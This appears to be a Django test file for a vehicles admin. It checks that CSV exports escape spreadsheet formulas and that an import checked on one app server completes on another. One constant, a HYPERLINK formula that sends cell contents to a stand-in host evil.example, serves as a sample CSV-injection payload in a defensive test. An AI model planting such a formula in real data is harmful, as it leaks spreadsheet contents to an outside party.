"""CSV import and export across app servers: formulas typed by editors stay text in a spreadsheet,
and an upload waiting for the import step lives where every app server can read it."""

import csv
import io
import runpy
from pathlib import Path

from django.core.cache import cache
from django.test import Client

from tests.vehicles.test_import import GOOD_POWERTRAINS, upload
from vehicles.models import MarketAvailability, Powertrain

SETTINGS_FILE = Path(__file__).resolve().parents[2] / "newsroom" / "settings.py"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def export_market_launches(client):
    export_url = "/admin/vehicles/marketavailability/export/"
    form = client.get(export_url).context["form"]
    chosen = {name: "on" for name in form.fields if name.startswith("marketavailabilityresource_")}
    response = client.post(export_url, {"format": "0", "resource": "0", **chosen})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_a_formula_typed_into_a_launch_note_exports_as_text(client, editor, tundra):
    launch = MarketAvailability.objects.filter(vehicle_model=tundra).first()
    launch.note = FORMULA
    launch.save()
    client.force_login(editor)

    rows = export_market_launches(client)

    notes = [row["note"] for row in rows]
    assert "'" + FORMULA in notes  # every character is kept, behind a quote that makes it text


def test_formulas_are_escaped_on_export_by_import_export_too():
    loaded = runpy.run_path(str(SETTINGS_FILE))
    assert loaded["IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT"] is True


def test_an_import_checked_on_one_app_server_is_imported_from_another(client, editor, toyotas, tmp_path, monkeypatch):
    """The upload waits for the import step in the database, not in one server's /tmp or memory."""
    client.force_login(editor)
    checked = client.post("/admin/vehicles/powertrain/import/", {"import_file": upload(GOOD_POWERTRAINS)})
    page_url = checked["Location"]

    other_server_tmp = tmp_path / "other-server-tmp"
    other_server_tmp.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(other_server_tmp))  # this server never saw the upload …
    cache.clear()  # … nor has it in its memory
    other_server = Client()
    other_server.force_login(editor)
    response = other_server.post(page_url)

    assert response.status_code == 302
    assert Powertrain.objects.filter(name="i-FORCE 3.4 L tuned").exists()
